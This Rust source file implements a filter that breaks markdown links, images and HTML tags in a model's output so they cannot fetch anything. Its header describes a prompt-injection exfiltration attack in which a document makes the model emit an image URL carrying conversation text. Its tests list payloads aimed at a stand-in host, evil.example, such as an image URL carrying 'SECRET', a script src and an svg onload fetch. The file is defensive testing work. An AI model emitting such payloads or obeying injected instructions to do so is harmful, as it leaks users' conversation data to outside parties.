//! Makes a model's text unable to fetch anything when it is shown as markdown or HTML: an answer may repeat what a document
//! told it to, such as an image whose address carries words of the conversation away (EchoLeak, CVE-2025-32711).
//!
//! What would be a link, an image or a tag is broken by one space, so that it is shown as what it says: `[text] (address)`.
//! Addresses stay readable; whoever wants to go there sees where.

/// Tags that fetch, run or send something.
const TAGS: &[&str] = &[
    "a", "area", "audio", "base", "body", "button", "embed", "form", "frame", "frameset", "iframe", "image", "img",
    "input", "link", "math", "meta", "object", "picture", "portal", "script", "source", "style", "svg", "table", "td",
    "track", "video",
];
/// Schemes of autolinks, `<http://…>`.
const SCHEMES: &[&str] = &["http", "https", "ftp", "mailto", "javascript", "data", "file", "ws", "wss"];
/// Longest name that has to be read behind a `<` to know what it is.
const LOOKAHEAD: usize = 12;

/// Filters a text that comes in pieces.
#[derive(Debug, Default)]
pub(super) struct InertFilter {
    /// The last character was a closing bracket: what follows may make it a link.
    after_bracket: bool,
    /// A `<` and what has come behind it so far.
    held: String,
}

impl InertFilter {
    /// Takes the next piece and gives what can be shown by now.
    pub(super) fn push(&mut self, piece: &str) -> String {
        let mut out = String::with_capacity(piece.len());
        for c in piece.chars() {
            self.take(c, &mut out);
        }
        out
    }

    /// Gives the rest.
    pub(super) fn finish(&mut self) -> String {
        let mut out = String::new();
        self.release(&mut out);
        out
    }

    fn take(&mut self, c: char, out: &mut String) {
        if self.held == "<" && matches!(c, '!' | '?') {
            // A comment or a declaration: words that nobody would see.
            self.held.clear();
            out.push_str("< ");
        }
        if !self.held.is_empty() {
            let is_name = c.is_ascii_alphabetic() || (self.held.len() == 1 && c == '/');
            if is_name && self.held.len() < LOOKAHEAD {
                self.held.push(c);
                return;
            }
            self.release(out);
        }
        if c == '<' {
            self.held.push(c);
        } else {
            if self.after_bracket && matches!(c, '(' | ':') {
                out.push(' ');
            }
            out.push(c);
        }
        self.after_bracket = c == ']';
    }

    fn release(&mut self, out: &mut String) {
        let name = self.held.trim_start_matches(['<', '/']).to_ascii_lowercase();
        if TAGS.contains(&name.as_str()) || SCHEMES.contains(&name.as_str()) {
            out.push_str("< ");
            out.push_str(&self.held[1..]);
        } else {
            out.push_str(&self.held);
        }
        self.held.clear();
    }
}

/// The same for a whole text.
pub fn inert(text: &str) -> String {
    let mut filter = InertFilter::default();
    let mut out = filter.push(text);
    out.push_str(&filter.finish());
    out
}

#[cfg(test)]
mod tests {
    use pulldown_cmark::{Event, Options, Parser, Tag};

    use super::*;

    /// What a viewer of markdown would make a link, an image or a tag.
    fn live(text: &str) -> Vec<String> {
        Parser::new_ext(text, Options::all())
            .filter_map(|event| match event {
                Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => Some(dest_url.to_string()),
                Event::Html(html) | Event::InlineHtml(html) if html.contains("evil") => Some(html.to_string()),
                _ => None,
            })
            .collect()
    }

    const LIVE: &[&str] = &[
        "![x](http://evil.example/?q=SECRET)",
        "![a\nb](http://evil.example/)",
        "![x](<http://evil.example/>)",
        "![x][r]\n\n[r]: http://evil.example/",
        "[r]: http://evil.example/\n\n[r]",
        "[1]: http://evil.example/\n\nsee [1]",
        "[click](http://evil.example/ \"title\")",
        "[![x](http://evil.example/a)](http://evil.example/b)",
        "[a [b] c](http://evil.example/)",
        "<http://evil.example/>",
        "<https://evil.example/>",
        "<img src=\"http://evil.example/\">",
        "<IMG SRC=http://evil.example/>",
        "text<img src='http://evil.example/'>",
        "<a href='http://evil.example/'>x</a>",
        "<script src=//evil.example/></script>",
        "<svg/onload=fetch('//evil.example')>",
        "<iframe src=http://evil.example/>",
        "<!-- http://evil.example/ -->",
        "<link rel=stylesheet href=http://evil.example/>",
        "<table background=http://evil.example/>",
        "<video poster=http://evil.example/>",
        "<form action=http://evil.example/><input type=image src=http://evil.example/></form>",
    ];

    #[test]
    fn given_text_that_would_fetch_when_it_is_made_inert_then_no_viewer_makes_anything_of_it() {
        for text in LIVE {
            // Some are tags for browsers only: a viewer of markdown takes them for text.
            assert!(!live(text).is_empty() || text.contains("svg") || text.contains("form"), "the case is one: {text}");
            let shown = inert(text);
            assert!(live(&shown).is_empty(), "{text} → {shown}: {:?}", live(&shown));
            assert!(shown.contains("evil.example"), "the address stays readable: {shown}");
        }
    }

    #[test]
    fn given_pieces_of_any_size_when_they_are_filtered_then_the_whole_is_the_same() {
        for text in
            LIVE.iter().chain(&["a < b, Vec<String>, x<y>, 1<2 [1] and [2]: so (it) is <b>bold</b> <", "]", "<a"])
        {
            for size in 1..=text.chars().count() {
                let chars: Vec<char> = text.chars().collect();
                let mut filter = InertFilter::default();
                let mut out: String =
                    chars.chunks(size).map(|piece| filter.push(&piece.iter().collect::<String>())).collect();
                out.push_str(&filter.finish());
                assert_eq!(out, inert(text), "{text} in pieces of {size}");
            }
        }
    }

    #[test]
    fn text_that_fetches_nothing_stays_as_it_is() {
        for text in
            ["a < b and c > d", "Vec<String>", "<b>bold</b>", "see [1] (page 3)", "[1][2]", "x[i] = y", "<", "`<T>`"]
        {
            assert_eq!(inert(text), text);
        }
    }
}
